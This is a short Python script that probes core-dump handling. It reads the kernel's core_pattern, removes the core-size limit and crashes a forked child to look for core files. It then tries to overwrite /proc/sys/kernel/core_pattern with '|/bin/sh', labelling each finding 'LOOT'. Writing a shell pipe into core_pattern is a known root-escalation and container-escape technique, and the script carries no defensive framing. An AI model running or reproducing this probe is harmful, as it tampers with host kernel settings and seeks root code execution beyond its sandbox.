# ruff: noqa
"""Core files."""

# %% after imports
import glob
import os
import resource
import signal

pattern = open("/proc/sys/kernel/core_pattern").read().strip()
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    print("LOOT: core files of any size")
except (OSError, ValueError):
    pass
child = os.fork()
if child == 0:
    os.kill(os.getpid(), signal.SIGSEGV)
    os._exit(0)
status = os.waitpid(child, 0)[1]
if os.WCOREDUMP(status) and glob.glob("core*"):
    print("LOOT: a core file", glob.glob("core*"))
try:
    open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh")
    print("LOOT: core_pattern can be written")
except OSError:
    pass
print("TRIED", pattern)
